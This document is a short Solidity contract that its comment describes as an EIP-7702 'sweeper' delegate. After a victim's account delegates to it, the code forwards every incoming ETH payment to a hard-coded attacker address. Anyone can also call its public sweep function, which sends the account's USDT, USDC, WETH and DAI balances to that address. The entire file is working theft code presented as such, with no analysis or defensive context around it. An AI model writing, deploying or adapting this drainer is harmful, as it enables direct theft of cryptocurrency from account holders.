// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 { function balanceOf(address) external view returns (uint256); function transfer(address, uint256) external returns (bool); }

/// EIP-7702 "sweeper" delegate: once a victim's account delegates to this code, any ETH that arrives and
/// every listed token is forwarded to the attacker, and anyone may trigger the sweep.
contract Eip7702Sweeper {
    address private constant ATTACKER = 0x5B38Da6a701c568545dCfcB03FcB875f56beddC4;
    address private constant USDT = 0xdAC17F958D2ee523a2206206994597C13D831ec7;
    address private constant USDC = 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48;
    address private constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address private constant DAI = 0x6B175474E89094C44Da98b954EedeAC495271d0F;

    function sweep() public {
        address[4] memory tokens = [USDT, USDC, WETH, DAI];
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 bal = IERC20(tokens[i]).balanceOf(address(this));
            if (bal > 0) IERC20(tokens[i]).transfer(ATTACKER, bal);
        }
        if (address(this).balance > 0) payable(ATTACKER).transfer(address(this).balance);
    }

    receive() external payable { payable(ATTACKER).transfer(address(this).balance); }
    fallback() external payable { sweep(); }
}
